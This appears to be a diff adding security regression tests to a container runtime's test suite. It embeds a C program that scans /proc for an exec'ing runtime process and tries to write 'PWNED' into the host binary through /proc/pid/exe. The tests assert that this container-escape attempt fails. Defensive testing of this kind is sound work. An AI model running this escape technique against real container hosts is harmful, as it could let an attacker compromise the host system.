@@ -416,3 +416,164 @@ def test_exec_refuses_a_python_sandbox_container():
     _one_line_error(r, "exec: container %s runs in Python sandbox mode; exec "
                     "is not supported" % cid)
     check(coil("delete", "--force", cid, root=root))
+
+
+# The attacker, in the container's pid namespace and without a user
+# namespace, scans /proc without pause for a process named coil (an exec'd
+# process before its execve). With "open" it opens that exe read-only,
+# tries to write it and, once told the exec is over (the host binary no
+# longer busy), tries again through the read-only handle. With "watch" it
+# only tries to read the exe link, over and over until the process execs,
+# and counts the processes it saw.
+ATTACKER_C = r"""
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+static void put(const char *name, const char *text) {
+  char path[64];
+  snprintf(path, sizeof path, "/shared/%s", name);
+  FILE *f = fopen(path, "w");
+  if (f) { fputs(text, f); fclose(f); }
+}
+
+static const char *try_write(const char *path) {
+  int w = open(path, O_WRONLY | O_APPEND);
+  if (w < 0) return "open-failed";
+  const char *r = write(w, "PWNED", 5) == 5 ? "written" : "write-failed";
+  close(w);
+  return r;
+}
+
+/* As init of the pid namespace it must outlive the exec it caught. */
+static int finish(void) {
+  while (access("/shared/stop", F_OK) != 0) usleep(10000);
+  return 0;
+}
+
+static int is_coil(const char *pid) {
+  char path[64], comm[32] = "";
+  snprintf(path, sizeof path, "/proc/%s/comm", pid);
+  int fd = open(path, O_RDONLY);
+  if (fd < 0) return 0;
+  ssize_t n = read(fd, comm, sizeof comm - 1);
+  close(fd);
+  return n == 5 && !memcmp(comm, "coil\n", 5);
+}
+
+static int open_exe(const char *exe) {
+  char link[256];
+  ssize_t n = readlink(exe, link, sizeof link - 1);
+  int fd = open(exe, O_RDONLY);
+  if (n <= 0 || fd < 0) return 0;
+  link[n] = 0;
+  put("link", link);
+  put("w1", try_write(exe));
+  put("caught", "");
+  while (access("/shared/gone", F_OK) != 0) usleep(10000);
+  char again[64];
+  snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
+  put("w2", try_write(again));
+  put("done", "");
+  return 1;
+}
+
+static int watch_exe(const char *pid, const char *exe, int *seen) {
+  char link[256], count[16];
+  do {
+    ssize_t n = readlink(exe, link, sizeof link - 1);
+    if (n > 0) {
+      link[n] = 0;
+      /* the new exe goes in before the new name: exec'd already */
+      if (strstr(link, "busybox"))
+        break;
+      put("link", link);
+      return 1;
+    }
+  } while (is_coil(pid));
+  snprintf(count, sizeof count, "%d", ++*seen);
+  put("seen", count);
+  return 0;
+}
+
+int main(int argc, char **argv) {
+  int watch = argc > 1 && !strcmp(argv[1], "watch"), seen = 0;
+  for (;;) {
+    if (access("/shared/stop", F_OK) == 0) return 0;
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    while (d && (e = readdir(d))) {
+      if (e->d_name[0] < '1' || e->d_name[0] > '9' || !is_coil(e->d_name))
+        continue;
+      char exe[64];
+      snprintf(exe, sizeof exe, "/proc/%s/exe", e->d_name);
+      if (watch ? watch_exe(e->d_name, exe, &seen) : open_exe(exe))
+        return finish();
+    }
+    if (d) closedir(d);
+  }
+}
+"""
+
+
+def _attack_exec(ptrace):
+    """Runs the attacker as a container's init (with CAP_SYS_PTRACE: "open",
+    else "watch") and execs into that container from a copy of coil, until
+    it opened an exec'd process's exe, or 30 times when watching (bounded:
+    the setup is a window of hundreds of microseconds against a scan of a
+    few dozen). Returns what it got; the copy must be unchanged."""
+    from test_exe import _binary_copy, _read, _run_copy, _sha256
+    copy, digest = _binary_copy()
+    shared = tmpdir(0o777)
+    src = os.path.join(shared, "attack.c")
+    with open(src, "w") as f:
+        f.write(ATTACKER_C)
+    subprocess.run(["cc", "-static", "-O2", "-o",
+                    os.path.join(shared, "attack"), src], check=True)
+    caps = harness.DEFAULT_CAPS + (["CAP_SYS_PTRACE"] if ptrace else [])
+    nss = [{"type": t} for t in harness.NAMESPACES if t != "user"]
+    mounts = base_config([])["mounts"] + [
+        {"destination": "/shared", "type": "bind", "source": shared,
+         "options": ["rbind", "rw"]}]
+    root, cid, _ = _running(
+        ["/shared/attack", "open" if ptrace else "watch"], mounts=mounts,
+        linux={"namespaces": nss, "uidMappings": None, "gidMappings": None},
+        process={"noNewPrivileges": False, "capabilities": {
+            k: caps for k in ("bounding", "effective", "permitted")}})
+    for _ in range(200 if ptrace else 30):
+        check(_run_copy(copy, root, "exec", cid, "true"))
+        if os.path.exists(os.path.join(shared, "caught" if ptrace else "link")):
+            break
+    open(os.path.join(shared, "stop"), "w").close()
+    caught = any(os.path.exists(os.path.join(shared, f))
+                 for f in (("caught",) if ptrace else ("seen", "link")))
+    if caught and ptrace:
+        open(os.path.join(shared, "gone"), "w").close()
+        deadline = time.time() + 20
+        while not os.path.exists(os.path.join(shared, "done")):
+            assert time.time() < deadline, "attacker did not finish"
+            time.sleep(0.02)
+    got = {k: _read(os.path.join(shared, k))
+           for k in ("link", "w1", "w2", "seen")}
+    _remove(root, cid)
+    assert _sha256(copy) == digest, "the host binary was rewritten: %r" % got
+    assert caught, "the attacker never saw an exec'd process before execve"
+    return got
+
+
+def test_exec_cannot_rewrite_host_binary_through_proc_exe():
+    # With CAP_SYS_PTRACE (a debugging sidecar) the exe can be opened: it
+    # is the sealed copy, which cannot be written.
+    got = _attack_exec(ptrace=True)
+    assert got["w1"] != "written" and got["w2"] != "written", got
+    assert "memfd:" in got["link"], got
+
+
+def test_exec_process_is_not_dumpable_before_execve():
+    # Without it, the same root cannot even read where the exe points: not
+    # while the process holds more capabilities, nor once it dropped them.
+    got = _attack_exec(ptrace=False)
+    assert got["link"] is None, got
